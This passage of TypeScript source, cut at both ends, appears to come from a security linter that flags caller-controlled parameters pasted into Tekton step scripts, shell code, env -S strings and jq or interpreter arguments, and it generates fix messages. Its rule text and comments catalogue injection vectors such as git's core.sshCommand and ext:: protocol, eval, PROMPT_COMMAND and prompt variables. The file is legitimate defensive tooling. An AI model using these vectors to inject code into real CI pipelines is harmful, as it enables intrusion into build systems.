`--security-enable-system-operator`: they read env vars (jq\'s `$ENV`, '
      + 'yq\'s `strenv`) and files (yq\'s `load`) into what they print but run no command, so a caller\'s program there discloses '
      + 'data without running code; nor a quoted value a script gives kubectl\'s `-f` (`kubectl apply -f "$F"`), which may name a URL whose objects kubectl fetches and applies (its own objects, not code the step runs); nor ssh\'s options and destination, an array\'s elements '
      + '(`CMD=(tool "$X")`; but where a word expands one whole, `"${opts[@]}"`, among the arguments of a program that runs code through its options or configuration, the elements of every assignment to it, in text order, are those arguments: `opts=(-c "core.sshCommand=$X"); git "${opts[@]}" fetch`), a file the value names (`sh "$X"`, `cp "$X" f` then '
      + '`sh f`: the value chooses among the files there, not their code), a file whose code, written as text (a quoted heredoc), '
      + 'a shell later runs. Arithmetic is read as bash reads it, whatever '
      + 'the shell (dash and busybox sh have no arrays); a digits test counts only in the script\'s own text and the code a shell it starts runs as its own, for the same text, not in '
      + '`eval`\'s code or a function\'s body read for its call, nor in a script that passes a caller\'s value to `set --`, and `return` after it does not count (it ends no '
      + 'script). A function is read by its name wherever it is defined, a shell\'s positional parameters once per call '
      + '(a call\'s input reaches the commands of the body that read code from it, given none of their own nor a pipe but through `cat` or `tee`, '
      + 'and those of a function the body calls, to a depth of three; the text of a quoted heredoc given to a call is not read as code) '
      + '(at most 32 codes in all). Assignments are followed wherever they are '
      + '(one that gives the variable a constant later does not clear it), and in a word that mixes single quotes with an '
      + 'expansion (`\'$X\'"$Y"`) every variable written counts, as does one read inside a command substitution '
      + '(`eval "$(printf %q "$X")"` is a finding; one quoted for the shell as a whole double-quoted operand of `echo` or `printf` after literal words, `eval echo "${X@Q}"` or `eval echo "$(printf %q "$X")"`, is read back as that one word, data, and is not, bash 5.2). The admission policies do not read it: CEL cannot read shell. An `exec` is taken to open its descriptors for the commands after it in the text wherever it stands, but for the forms above that provably never do: one in a `for` loop over no word, after `return` or `exit` in a function, or in a function only an uncalled function calls, or called only after the reader, still counts; so does a redirection on a function\'s definition though the function is never called. A descriptor a function\'s call gives its body is read for the commands of the body (and of the functions it calls, to a depth of three), not for what an `exec` in the body opens from it. An assignment to `ENV`, `PROMPT_COMMAND` (as an array too, bash 5.1: `PROMPT_COMMAND=("$X")`, `declare -a PROMPT_COMMAND[1]="$X"`) or a prompt (`PS1`, `PS2`, bash\'s `PS0`, whose command substitutions a shell runs as it prompts: bash 5.2 under `promptvars`, dash 0.5.12) is read where the script runs such a shell anywhere, before or after it, exported or not (it may be exported already or apart): a bash prompts where it reads its input (no `-c`, no script file but with `-s`: `bash -i build.sh` and `#!/bin/bash -i` read the file without prompting, so neither runs `PROMPT_COMMAND` nor expands a prompt), a POSIX shell given `-i` without `-c` for a script file too, and so does the script\'s own shell made interactive by its `#!` line (`#!/bin/sh -i`: a prompt assigned in the script, or `PS1`/`PS2` its env gives from a caller\'s value, reported at the `#!` line; one through `env -S`, `#!/usr/bin/env -S sh -e -i`, too); a startup file (`~/.bashrc`, `/etc/bash.bashrc`) that sets a prompt again is not read. A bare subscripted assignment (`PROMPT_COMMAND[1]="$X"`, `a[0]="$X"`) is read as bash reads it, an assignment (dash runs it as a command named `a[0]=…`, which no value makes another program); its element is taken for the whole array\'s value (`b[0]="$X"` then `eval "${b[0]}"`, or `"${b[1]}"`, is a finding), and its subscript is read as arithmetic, an associative array\'s key too (`m[$X]=1`). Those that only name where code is loaded from (`PATH`, `LD_PRELOAD`, a proxy: ARGUMENT_INJECTION reads them in a container\'s env) are not read in a script. A descriptor a variable names (`{fd}<<< "$X"`, also given by a function\'s call to its body: `f {fd}<<< "$X"`) is read where a file names it through that variable alone (`/dev/fd/$fd`, `/dev/fd/${fd}`, `/dev/fd/$((fd))`, `/dev/fd/$(( $fd ))`) or a redirection duplicates it (`bash <&$fd`, `exec 0<&"$fd"`), not through a copy or other arithmetic (`n=$fd`, `/dev/fd/$((fd + 0))`). A call through `command` (`command f 3<<< "$X"`) is read as the program `f`, as bash 5.2 runs it (`command` skips functions). A program a variable names given `-i` is taken for an interactive shell whatever it is (`"$SED" -i` beside `export PROMPT_COMMAND="$X"` is a finding). A command an alias names is read as that name, not the alias\'s value (`alias g=git` then `g config --global protocol.ext.allow always`, `alias b=\'bash -i\'` then `b`: sh expands aliases), and a file of wget configuration written from a value (`~/.wgetrc`, the file `WGETRC` or `--config` names, whose `use_askpass` runs a program) is not read. A program a variable names (`$CMD …`, `"${CMD}" …`) is the literal the variable provably holds where every word of the texts read that names it assigns that one literal (`CMD=git`, `export CMD=git`; no `read`, `for`, `declare -n`, `${CMD:=…}` or caller\'s value), one such assignment runs unconditionally in the script\'s top level before the command, and no text sources a file or runs `eval` (which may assign it) or sets `IFS`: `CMD=git; $CMD -c "core.sshCommand=$X" fetch` is read as git\'s; in code a shell the script starts itself (`sh -c \'$CMD …\'`, `bash <<EOF`, through no wrapper) it is that literal only where the assignment exports it (`export CMD=git`, `declare -x`: an unexported one is not in the child\'s environment, whose own CMD dash 0.5.12 and bash 5.2 expand); a use in a function defined before the assignment, in such code of an unexported variable or behind a wrapper (`sudo sh -c`), or of a variable given two literals, is read as now, as a program that may be a shell. Nor are '
      + 'the code of a program a variable names other than that of `-c` (`"$PY" -e …`) where it holds no literal so known, git\'s protocol policy set outside the script or by a key a variable names (a system or image gitconfig, `git config "$K" always`: '
      + '`git clone -- "$X"` is then data, though an `ext::` value runs), '
      + 'git\'s `-C`, `--git-dir` and `--work-tree` (though `GIT_CONFIG_GLOBAL` and `GIT_CONFIG_SYSTEM` assigned the value are read as choosing the configuration, as ssh\'s, scp\'s and sftp\'s `-F` are), make\'s `-f` and `-C`, and curl\'s `-K` (the value chooses a file or directory, whose content is read as '
      + 'the file of `sh "$X"` is), the options of other programs of the same kind (`svn`, `hg`, `scp -F`), '
      + 'a startup file named otherwise (`/root/.bashrc`, `$ENV`), nor jq\'s program in a script (`jq -n "$X"`, which prints env vars but runs no command). sudo is taken to close the descriptors from 3 (sudoers\' default `closefrom`) unless given `-C N`: an image whose sudoers sets a higher `closefrom` is not read. Each substitution of a place is a finding of its own, reported once with how often the '
      + 'place holds it. Pods, Deployments and other '
      + 'workloads are not read, nor the init containers Tekton adds to the pod itself; a Task named by a resolver, bundle or '
      + 'hub reference is judged only when it is given as an object. The string of `env -S STRING` is read as env\'s '
      + 'arguments again (its options, their values, assignments and wrappers before the program), split at blanks outside '
      + 'quotes (env\'s escapes and `${VAR}` are not followed); after `sh -c` named there, the arguments after the code (its NAME and ARGs in the string, and those after the string) are '
      + 'data unless the code runs them as code; the '
      + 'admission policies read `env -S` where `env` is `command[0]` or behind wrappers (`timeout 5 env -S …`), and do not take the program from the string (what '
      + 'follows `env -S \'sh -c\'` is judged as the arguments of a program that is no interpreter), and refuse a substitution in any '
      + 'argument of jq, the values of `--arg` and the operands after its program included (stricter than the catalogue). The admission policies still read every '
      + '`$(workspaces.<w>.path)` as inert. A param substitution Tekton leaves as written (a spelling it does not replace at '
      + 'that level, such as `$(params["<o>"].<key>)` of a TaskRun\'s object, or `$(params.<p>)` no level gives) is still '
      + 'a finding, as is a value of a run\'s param that holds any substitution but the run\'s own identity, though Tekton may make a '
      + 'constant of it. A finding in `command` or `args` names the element that holds what it reports, as written (`command[1]`, `args[0]`; '
      + 'the code of `sh -c` for an env var it runs); its fix reads the env var as the program does: in a shell\'s code `"$NAME"`, in '
      + 'awk\'s program `ENVIRON["NAME"]`, in jq\'s `$ENV.NAME`, in another interpreter\'s code its own reading, in the string of env -S `${NAME}` after a program that is no interpreter (coreutils 9.1 env.c expands that form alone, outside single quotes, into one word; `$NAME` is an error), `"$NAME"` inside single quotes in the code of a shell named there, and, where the value stands in the program\'s word or before it, the program written literally; and where a runner '
      + '(sudo, xargs, ssh, find …) runs its arguments as a command, the command written literally with the value given to it as data '
      + 'from a script.',
    howToRelax:
      'Cannot be relaxed: no prop, `Relaxations.of(...)` or annotation waives it. Pass the value through env (`env: [{ '
      + 'name: \'URL\', value: \'$(params.url)\' }]`) and use `"$URL"`, quoted, in the script, as an operand of a fixed '
      + 'command after `--` (`git clone -- "$URL"`), or as a positional parameter of the code of a shell (`sh -c \'git clone -- "$1"\' _ "$URL"`).',
    relaxable: false,
  },
  (view, _context, manifest) => {
    const c = view.effective;
    // jqOption: a jq operand that is data but where the substitution gives it a leading `-` (`--run-tests`)
    // jqFile: the file of jq's program (-f) or a directory of the modules it imports (-L)
    // argvData: an argument the interpreter gives its code as data (sys.argv …), and the evaluator the code names
    const places: Array<{
      property: string;
      text: string;
      split?: boolean;
      index?: number;
      program?: string;
      jqOption?: boolean;
      jqFile?: 'file' | 'library';
      splitRun?: Invocation;
      argvData?: CodeArgvData;
    }> = [];
    if (typeof view.container?.script === 'string') places.push({ property: 'script', text: view.container.script });
    const command = asArray(c?.command).map(jsString);
    const args = asArray(c?.args).map(jsString);
    // without a command the image's entrypoint runs: ARGUMENT_INJECTION judges its args
    // each program argv may run (an option a wrapper does not know read every way): the code of any is code
    const runs = command.length > 0 ? invocations([...command, ...args]) : [ENTRYPOINT];
    // a shell whose code runs its positional parameters as a command (`sh -c 'exec "$@"' -- bash -c CODE`, a script `exec "$@"`
    // with args) runs the arguments from there as a program argv: read as one too
    // (and through such a shell it runs in turn: `sh -c 'exec "$@"' -- sh -c 'exec "$@"' -- bash -c CODE`)
    for (let k = 0, more = positionalRuns([...command, ...args], runs, typeof view.container?.script === 'string' ? view.container.script : undefined);
      more.length > 0 && k < 4; k++, more = positionalRuns([...command, ...args], more, undefined)) runs.push(...more);
    // the element of command or args at an index of both, as written: `command[1]`, `args[0]`
    const element = (i: number) => (i < command.length ? `command[${i}]` : `args[${i - command.length}]`);
    const taken = new Set<string>();
    const add = (place: (typeof places)[number]) => {
      const key = `${place.index}\u0000${place.split === true}`;
      if (!taken.has(key)) places.push(place);
      taken.add(key);
    };
    // in a Pipeline's task spec, a whole element `$(params.<p>)` of a param the pipeline does not declare a string (or an
    // object) is expanded from the array a run may give (Tekton propagates the run's params into the spec): no argument or several
    const inPipeline = view.pipelineTask;
    // in the task spec of a PipelineRun's own pipelineSpec (or of a pipeline task's pipelineSpec), the arrays that run gives
    const arrays = inPipeline === undefined || inPipeline.customTask ? undefined
      : inPipeline.runParams === undefined ? runArrays(singleElements(inPipeline)!) : givenArrays(inPipeline.pipelineParams, inPipeline.runParams);
    // params the run in the same manifest fixes to a constant: no caller chooses them
    const fixed = runFixedReferences(view);
    // the kubelet expands $(NAME) in command and args (never in a script, which Tekton writes to a file)
    // (or code of a program whose task reads it, `mix run -e CODE`)
    const code = runs.some((run) => run.interpreter || run.splitStrings.length > 0 || codeArguments([...command, ...args], run).length > 0);
    const env = code ? callerEnv(asArray(c?.env), view.chosenWorkspacePaths, fixed) : undefined;
    for (const run of runs) {
      // the string of `env -S` is split into a command line: code whatever program it names
      for (const i of run.splitStrings) add({ property: element(i), text: [...command, ...args][i], split: true, index: i, splitRun: run });
      if (run.interpreter) {
        // after `sh -c CODE`, NAME and the ARGs are $0, $1 ...: data the shell never parses
        const argv = [...command, ...args];
        const data = shellDataIndex(argv, run) ?? argv.length;
        // jq's `--arg NAME VALUE` and the like bind data, never its program (an element expanded from an array moving those after it)
        const spreads = (text: string) => WHOLE_ARRAY.test(text) || arrays?.(text) === true;
        const bound = jqDataIndexes(argv, run, spreads);
        const operands = jqDataIndexes(argv, run, spreads, false);
        // the file of jq's program and the directories of the modules it imports name code; a directory it imports nothing from is data
        const jq = jqCodeFiles(argv, run);
        // the input files of sed and awk (`sed -i -e SCRIPT /src/$(params.file)`) are data, where no caller's value may be an option before them
        const starts = (text: string) => text.startsWith('$(') || WHOLE_ARRAY_ANYWHERE.test(text);
        const name = basename(run.program ?? '');
        const inputs = name === 'kubectl' ? kubectlDataArguments(argv, run, starts)
          : CONTAINER_CLIS.has(name) ? containerCliDataArguments(argv, run, starts)
            : name === 'helm' ? helmDataArguments(argv, run) : programDataOperands(argv, run, starts);
        // the arguments an interpreter passes to the program file it runs (`python3 build.py --x=$(params.x)`) are that program's data
        for (const k of scriptFileArguments(argv, run, starts)) inputs.add(k);
        // the arguments after the code of `python3 -c CODE` (node's, perl's and ruby's -e, past their options) are the code's data
        // (sys.argv …): told only where the fixed code names an evaluator it may pass them to (`eval(sys.argv[1])`)
        const read = codeArgvData(argv, run, codeArguments(argv, run).map((a) => a.index), starts,
          (text) => untrustedSubstitutions(text, view.chosenWorkspacePaths, env, fixed).length > 0);
        argv.forEach((text, i) => {
          const argvData = read?.indexes.includes(i) === true ? read : undefined;
          const told = argvData === undefined || argvData.evaluator !== undefined || argvData.switch !== undefined || argvData.option === true;
          if (i > run.programIndex && i < data && !bound.has(i) && !jq.unused.has(i) && !inputs.has(i) && told) {
            const jqFile = jq.code.get(i);
            const jqRoles = { ...operands.has(i) ? { jqOption: true } : {}, ...jqFile === undefined ? {} : { jqFile } };
            add({ property: element(i), text, index: i, program: run.program, ...jqRoles, ...argvData === undefined ? {} : { argvData } });
          }
        });
      }
    }
    // a step's `when` expressions in CEL, which the entrypoint evaluates after Tekton substitutes params into them (as into the step);
    // a step that runs a StepAction has its own read apart (SCRIPT_INJECTION below), whatever the StepAction is
    const whens = view.role === 'step' ? celWhens(view.container?.when, fixed) : [];
    // an element Tekton may expand to none or several moves a caller's value after it (from sh -c's data into its code)
    const moves = callerAfter([...command, ...args], view.chosenWorkspacePaths, env, fixed, singleElements(view.pipelineTask));
    // a shell script that runs as code an env var whose value holds a substitution callers can choose
    const script = view.container?.script;
    // with the arguments it gets as its positional parameters: a script, `args` ($1 …)
    // (the shell its #! line names, which expands its words: `#!/bin/dash` refuses bash's `${V:1}`; none named, Tekton's `sh`)
    // (busybox's `sh` or `ash` applet, `#!/bin/busybox sh`, is its ash: `busybox`)
    const shebang = typeof script === 'string' ? interpreterOf(script) : undefined;
    const interpreter = shebang?.words ?? [];
    const ownShell = interpreter.length === 0 ? 'sh' : /^(sh|ash)$/.test(basename(interpreter[0])) && shebang!.line.split(/[ \t]+/).some(isBusybox) ? 'busybox' : basename(interpreter[0]);
    const shellCode: ShellCode[] = typeof script === 'string' && readsAsShell(interpreter)
      ? [{ property: 'script', code: script, shell: ownShell, parameters: args.map((text, i) => ({ position: i + 1, origin: `args[${i}]`, text })) }] : [];
    // and the code of `sh -c CODE` in command and args, which the shell reads as it reads a script
    const argv = [...command, ...args];
    // the env vars `env NAME=VALUE` sets for a shell whose code is read (after the container's, which they replace)
    const assigned: Array<{ name: string; value: string }> = [];
    for (const run of runs) {
      const text = shellCommandString(argv, run);
      // the code is an argument, or a word of the string of env -S that names the shell (`env -S "sh -c 'eval \"$X\"'"`)
      const written = text === undefined ? -1 : argv.indexOf(text, run.programIndex + 1);
      const at = written < 0 && text !== undefined && run.splitStrings.includes(run.programIndex) ? run.programIndex : written;
      if (text !== undefined && at >= 0) assigned.push(...run.assignments.map(({ name, value }) => ({ name, value })));
      if (text === undefined || at < 0 || shellCode.some((s) => s.code === text)) continue;
      // `sh -c CODE NAME ARG…`: NAME is $0, the ARGs $1 …; in the string of env -S, its words after the code first (a run's label
      // there, one word: a caller's value there is a finding of the string's own), then the arguments after the string
      const data = shellDataIndex(argv, run);
      const origin = (index: number) => (index < command.length ? `command[${index}]` : `args[${index - command.length}]`);
      const inString = at === written ? [] : splitShellParameters(argv[at], run.program!)
        .filter((word) => untrustedSubstitutions(word, view.chosenWorkspacePaths, env, fixed).length === 0)
        .map((word, k) => ({ position: k, origin: origin(at), text: word }));
      const parameters = [...inString, ...data === undefined ? [] : argv.slice(data).map((arg, k) => ({
        position: inString.length + k, origin: origin(data + k), text: arg,
      }))];
      // (the shell that runs it, busybox's applet too: `dash -c CODE` refuses bash's `${V:1}`, busybox's ash its `${V,,}`)
      const after = argumentsOf(argv, run);
      const applet = (isBusybox(run.program!) || isToybox(run.program!)) && after.length > 0 ? basename(after[0]) : undefined;
      const shell = applet === undefined ? basename(run.program!) : isBusybox(run.program!) && /^(sh|ash)$/.test(applet) ? 'busybox' : `toybox ${applet}`;
      shellCode.push({ property: element(at), code: text, shell, parameters, ...(at === written ? {} : { split: true }) });
    }
    // (an envFrom source may set any other variable, to a value not known)
    const envFrom = asArray(c?.envFrom).length > 0;
    const envCode = envRunAsCode(shellCode, asArray(c?.env), view.chosenWorkspacePaths, fixed, arrays, assigned, envFrom);
    // a label's $(NAME) in the string of env -S is read below, as env splits the string (splitStringLabels)
    const labelCode = labelsRunAsCode(shellCode.filter(({ property, split }) => property !== 'script' && split !== true), asArray(c?.env), envFrom);
    // a label's $(NAME) the kubelet pastes into another interpreter's code (`python3 -c`, `node -e` …), whose language is not read
    const labels = code ? labelEnv(asArray(c?.env)) : undefined;
    if (labels !== undefined && labels.labels.size > 0) {
      const seen = new Set<string>();
      // the labels of argv[index], the code of `program`'s `option` (run by `runner`, when one runs it), once per env var
      const pastedIntoCode = (index: number, program: string, option: string, runner?: string) => {
        for (const label of labelReferences(argv[index], labels.labels, labels.copies)) {
          const name = label.envVar;
          if (seen.has(name)) continue;
          seen.add(name);
          labelCode.push({
            property: element(index),
            value: `$(${name})`,
            problem: `pastes the value of env var ${name}, ${labelSource(label)}, which callers choose `
              + `(a word, which can name a program), into the code of ${program.slice(program.lastIndexOf('/') + 1)} ${option}, which ${runner === undefined ? '' : `${runner} runs, and which `}runs it as code`,
            fix: `Read ${name} from the environment in the code, as data (${envReadIn(basename(program), name, argv[index])}), instead of $(${name}), which the kubelet pastes into the code.`,
          });
        }
      };
      // a shell's `-c` code is read as shell (labelsRunAsCode)
      for (const run of runs.filter((r) => shellCommandString(argv, r) === undefined)) {
        for (const { index, option } of codeArguments(argv, run)) pastedIntoCode(index, run.program!, option);
      }
      // every argument of erl, jshell and cmd, read as code as a param's is (erl reads its flags anywhere: `erl -noshell -eval E`, `-s MOD`;
      // jshell each later argument as a flag or a file to load; cmd.exe the rest of its command line after /c or /k, which it reads
      // as one string, its switches wherever they stand: Windows' cmd documentation), named by the flag before it
      for (const run of runs.filter((r) => /^(erl|jshell|cmd)$/.test(basename(r.program ?? '')))) {
        const dash = basename(run.program!) === 'cmd' ? '/' : '-';
        for (let index = run.programIndex + 1; index < argv.length; index++) {
          const flag = argv.slice(run.programIndex + 1, index + 1).reverse().find((w) => w.startsWith(dash)) ?? 'arguments';
          pastedIntoCode(index, run.program!, flag.replace(/=.*$/s, ''));
        }
      }
      // a label's $(NAME) as the program a command runner runs (`xargs $(TOOL)`, `sudo -u b $(TOOL)`, `find . -exec $(TOOL) {} +`)
      const seenRunner = new Set<string>();
      for (const run of runs) {
        if (run.program === undefined || !run.interpreter) continue;
        const after = argumentsOf(argv, run);
        // sudo's and doas' command, when they run one (its words as written: `sudo -s` joins them for the shell)
        const privileged = (privilegeReadings(run.program, after) ?? []).flatMap((r) => (r.command === undefined ? [] : [after.slice(r.command)]));
        for (const runnerCommand of [...commandsRunBy(run.program, after) ?? [], ...privileged]) {
          // the code of a shell it runs (`watch`'s operands joined for `sh -c`, `su -c CODE`), as the kubelet pastes it
          const runnerCode = shellCommandString(runnerCommand, invocations(runnerCommand)[0]);
          const holder = runnerCode === undefined ? -1
            : argv.findIndex((a, k) => k > run.programIndex && labelReferences(a, labels.labels, labels.copies).length > 0 && runnerCode.includes(a));
          if (runnerCode !== undefined && holder >= 0) {
            for (const p of labelsRunAsCode([{ property: element(holder), code: runnerCode, parameters: [] }], asArray(c?.env))) {
              if (!labelCode.some((q) => q.property === p.property && q.problem === p.problem)) labelCode.push(p);
            }
          }
          // the code of another interpreter it runs (`sudo -u b python3 -c CODE`), whose language is not read
          const inner = runnerCode === undefined && runnerCommand.length > 0 ? invocations(runnerCommand)[0] : undefined;
          for (const { index: codeAt, option } of inner === undefined ? [] : codeArguments(runnerCommand, inner)) {
            const index = argv.indexOf(runnerCommand[codeAt], run.programIndex + 1);
            if (index >= 0) pastedIntoCode(index, inner!.program!, option, basename(run.program));
          }
          const word = runnerCommand[0];
          const index = word === undefined ? -1 : argv.indexOf(word, run.programIndex + 1);
          if (index < 0) continue;
          for (const label of labelReferences(word, labels.labels, labels.copies)) {
            const name = label.envVar;
            if (seenRunner.has(name)) continue;
            seenRunner.add(name);
            labelCode.push({
              property: element(index),
              value: `$(${name})`,
              problem: `pastes the value of env var ${name}, ${labelSource(label)}, which callers choose (a word, which can name a program), `
                + `into the command ${basename(run.program)} runs, where it names the program`,
              fix: `Write the program ${basename(run.program)} runs literally, and pass $(${name}) to it only as data, or check it against the values allowed first.`,
            });
          }
        }
      }
      // a label's $(NAME) in the string of env -S, which env splits into words: where a word picks what runs
      const seenSplit = new Set<string>();
      for (const run of runs) {
        for (const found of splitStringLabels(argv, run, labels.labels, labels.copies)) {
          const name = found.label.envVar;
          if (seenSplit.has(name)) continue;
          seenSplit.add(name);
          labelCode.push({
            property: element(found.index),
            value: `$(${name})`,
            problem: `pastes the value of env var ${name}, ${labelSource(found.label)}, which callers choose (a word, which can name a program), `
              + `into the string of env -S, which env splits into words: ${found.how}`,
            fix: found.code
              ? `Write "$${name}" in the code (env passes the env var on) instead of $(${name}), which the kubelet pastes into the string, as data, never as a command.`
              : `Write the program and what env reads before it literally in the string of env -S, and pass $(${name}) to the program only as data, `
              + 'or check it against the values allowed first.',
          });
        }
      }
    }
    // each substitution of a place is a finding of its own (once, however often the place holds it): each needs its own env var
    // env's own `${NAME}` in the string of env -S, which GNU env replaces with the env var's value (outside single quotes), in the word it stands in
    const expandedCode: Array<Omit<Problem, 'location' | 'target'>> = [];
    if (env !== undefined && env.size > 0) {
      const seenExpanded = new Set<string>();
      for (const run of runs) {
        for (const found of splitStringExpansions(argv, run, env)) {
          if (seenExpanded.has(found.name)) continue;
          seenExpanded.add(found.name);
          const value = asArray(c?.env).filter((e: any) => e?.name === found.name).pop()?.value;
          const holds = typeof value === 'string' ? untrustedSubstitutions(value, view.chosenWorkspacePaths, env, fixed)[0]?.text : undefined;
          expandedCode.push({
            property: element(found.index),
            value: `\${${found.name}}`,
            problem: `expands in the string of env -S the value of env var ${found.name}, which ${holds === undefined ? 'callers choose' : `holds ${holds}`} `
              + `(GNU env puts it in the word where \${${found.name}} stands): ${found.how}`,
            fix: found.code
              ? `Write "$${found.name}" in single quotes in the string (the program's own expansion, from the environment env passes on) as data, never as code or a command.`
              : `Write the program and what env reads before it literally in the string of env -S, and pass \${${found.name}} to the program only as data.`,
          });
        }
      }
    }
    // the code of a shell the string names holds the value env put there, not the shell's own `${NAME}`: told above alone
    const expandedNames = new Set(expandedCode.map((p) => p.value!.slice(2, -1)));
    const shellRead = envCode.filter((p) => ![...expandedNames]
      .some((n) => p.value?.includes(`\${${n}}`) && p.problem.startsWith(`runs as code the value of env var ${n},`)));
    // the scripts the step's script writes from a literal (a base64 literal it decodes) that it or a later step runs
    const writtenCode = view.role === 'step' && typeof script === 'string' ? scriptsWrittenRunAsCode(view, script, manifest, arrays) : [];
    const own = [...whens, ...shellRead, ...labelCode, ...expandedCode, ...writtenCode];
    return [...own, ...places.flatMap(({
      property, text, split, index, program, jqOption, jqFile, splitRun, argvData,
    }) => distinct(untrustedSubstitutions(
      text, view.chosenWorkspacePaths, property === 'script' ? undefined : env, fixed, index !== undefined && moves[index]))
      .map((found) => {
        const name = envNameFor(found.text);
        return {
          property,
          value: found.text,
          problem: (property === 'script' ? 'pastes a substitution into a script'
            : split ? 'pastes a substitution into the string of env -S, which env splits into a command line (quotes, ${VAR} and options included)'
              : jqOption === true && text.startsWith(found.text) && index === argv.length - 1
                ? 'pastes a substitution first into the last operand of jq, where a value such as -L/dir is an option: jq then loads the modules '
                  + 'its program imports (import, include) from that directory'
                : jqOption === true && text.startsWith(found.text)
                  ? 'pastes a substitution first into an operand of jq before another argument, where a value such as --run-tests is an option: jq then '
                    + 'runs the programs of the file after it as tests'
                  : jqFile === 'file'
                    ? `pastes a substitution into the name of the file ${basename(program ?? 'jq')} reads its program from (-f): the value chooses the code `
                      + 'that runs (any file the container can read)'
                    : jqFile === 'library'
                      ? `pastes a substitution into a directory ${basename(program ?? 'jq')} searches for the modules its program imports (-L): the value `
                        + 'chooses the code import and include load'
                      : argvData !== undefined ? argvDataProblem(basename(program ?? ''), argvData)
                        : `pastes a substitution into the arguments of ${program}, which runs them as code`
            + (found.envVar !== undefined ? ` (the kubelet expands ${found.text}, whose env var holds a value callers can choose)` : '')) + timesText(found.times),
          fix: jqOption === true && text.startsWith(found.text)
            ? `Write -- after jq's program and options, before ${found.text}: jq reads every argument after -- as an input file (or with --args a value).`
            : jqFile === 'file'
              ? `Name the program file literally (a path in the image, or under $(workspaces.<w>.path)), and ${asData(found, name)}.`
              : jqFile === 'library'
                ? `Name the module directory literally (-L with a path in the image, or under $(workspaces.<w>.path)), and ${asData(found, name)}.`
                : split && splitRun !== undefined && index !== undefined
                  ? splitStringFix(argv, index, splitRun, found.text, found.envVar ?? name, found.envVar === undefined)
                  : found.envVar !== undefined
                    ? kubeletFix(found.envVar, found.text, codeRead(property, split, program, found.envVar, view.container?.script))
                    : `Pass it through env instead: env: [{ name: '${name}', value: '${found.text.replace(/'/g, "''")}' }] and ${codeRead(property, split, program, name, view.container?.script).text}`
                      + `${argvData?.evaluator === undefined ? '' : `, never given to ${argvData.evaluator}`}`
                      + `${argvData?.option === true ? ` (or write -- after the code, before it: ${basename(program ?? '')} reads no option after --)` : ''}.`,
        };
      }))];
  },
  { includeStepTemplate: true, stepActionsInTask: true },
);

/**
 * The problem of a substitution in an argument the interpreter `name` gives its code as data (codeArgvData) where it is told: the
 * evaluator the code names, the switch that reads it as more than data, or the interpreter's options it may be among.
 */
function argvDataProblem(name: string, data: CodeArgvData): string {
  return `pastes a substitution into an argument ${name} ${argvDataReading(name, data)}`;
}

/**
 * How a jq program file or module directory named literally gets the value as data: an env var the step already sets to it
 * (the kubelet's `$(NAME)`) is read as it is; another substitution goes through env first.
 */
function asData(found: { readonly text: string; readonly envVar?: string }, name: string): string {
  return found.envVar !== undefined
    ? `read the value in the program as $ENV.${found.envVar} (env var ${found.envVar} already holds it)`
    : `pass the value to the program as data: env: [{ name: '${name}', value: '${found.text}' }] and read it in the program as $ENV.${name}`;
}

/**
 * The fix for the kubelet's `$(NAME)` of an env var pasted into code: a shell's own `"$NAME"`, or the env var read in the
 * language of the program that runs the code (`read`, from codeRead: os.environ["NAME"] in python's).
 */
function kubeletFix(envVar: string, text: string, read: CodeReading): string {
  return read.expression !== undefined
    ? `Read it in the ${read.expression.place} as ${read.expression.read} instead of ${text}, which the kubelet pastes into the code (env var ${envVar} already holds the value).`
    : `Write "$${envVar}" (the shell's own expansion, quoted) instead of ${text}, which the kubelet pastes into the code.`;
}

/**
 * How code reads an env var (codeRead): the sentence of a fix, and, where the code reads it in its own language, where and with
 * what expression (`os.environ["NAME"]` in the script).
 */
interface CodeReading {
  readonly text: string;
  readonly expression?: { readonly place: 'code' | 'program' | 'script'; readonly read: string };
}

/** The CodeReading of the expression `read` in `place`: `read it in the script as os.environ["NAME"], as data`. */
function readIn(place: 'code' | 'program' | 'script', read: string): CodeReading {
  return { text: `read it in the ${place} as ${read}, as data`, expression: { place, read } };
}

/** How the code of an interpreter's code option (shell.ts codeArguments) reads the env var `name`, in its own language. */
const ENV_READS: ReadonlyArray<readonly [RegExp, (name: string) => string]> = [
  [PYTHON, (n) => `os.environ["${n}"]`],
  [/^(node|nodejs|bun)$/, (n) => `process.env.${n}`],
  [/^perl[0-9.]*$/, (n) => `$ENV{${n}}`],
  [RUBY, (n) => `ENV["${n}"]`],
  [TCL, (n) => `$env(${n})`],
  [/^expect$/, (n) => `$env(${n})`],
  [/^php[0-9.]*$/, (n) => `getenv("${n}")`],
  [/^(lua|luajit)[0-9.]*$/, (n) => `os.getenv("${n}")`],
  [/^(r|rscript)$/i, (n) => `Sys.getenv("${n}")`],
  [/^(pwsh|pwsh-preview|powershell)$/i, (n) => `$env:${n}`],
  // (cmd expands %NAME% before it parses the line, so a value's `&` runs a command; with /v:on, !NAME! after it)
  [/^cmd$/, (n) => `!${n}! after cmd /v:on, which expands it once the line is parsed (not %${n}%, expanded before)`],
  [/^(fish|csh|tcsh|zsh)$/, (n) => `"$${n}"`],
  [/^nu$/, (n) => `$env.${n}`],
  [/^erl$/, (n) => `os:getenv("${n}")`],
  [/^(jshell|groovy)$/, (n) => `System.getenv("${n}")`],
  [/^(elixir|iex|mix)$/, (n) => `System.get_env("${n}")`],
  [/^julia$/, (n) => `ENV["${n}"]`],
  [/^(guile|racket)$/, (n) => `(getenv "${n}")`],
  [/^sbcl$/, (n) => `(sb-ext:posix-getenv "${n}")`],
  [/^clisp$/, (n) => `(ext:getenv "${n}")`],
  [/^osascript$/, (n) => `system attribute "${n}"`],
];

/**
 * ENV_READS' expression for `program` reading the env var `name`, with what it needs to run: Python's os.environ after `import os`
 * where `code`, the code it goes in (where known), imports no os (`python3 -c 'print(os.environ["X"])'` is a NameError, CPython 3.11 run).
 * An import that binds os: a statement (at a line's start or after `;`, or after the quote that opens the shell word holding it where
 * `code` is a shell line, `quoted`), not spelled in a string (`print("import os")`), naming os or a module in it (`import os.path`) not
 * bound to another name (`import os as o` binds o alone: os is then a NameError, CPython 3.11 run).
 */
function envReadOf(program: string, name: string, code?: string, quoted = false): string | undefined {
  const read = ENV_READS.find(([re]) => re.test(program))?.[1];
  if (read === undefined) return undefined;
  const statement = quoted ? '(?:^|;|(?<=(?:^|[ \\t]|-c))[\'"])' : '(?:^|;)';
  const binds = new RegExp(`${statement}[ \\t]*import[ \\t]+(?:[\\w.]+(?:[ \\t]+as[ \\t]+\\w+)?[ \\t]*,[ \\t]*)*os(?:\\.\\w+)*(?![\\w.])(?![ \\t]+as\\b)`, 'm');
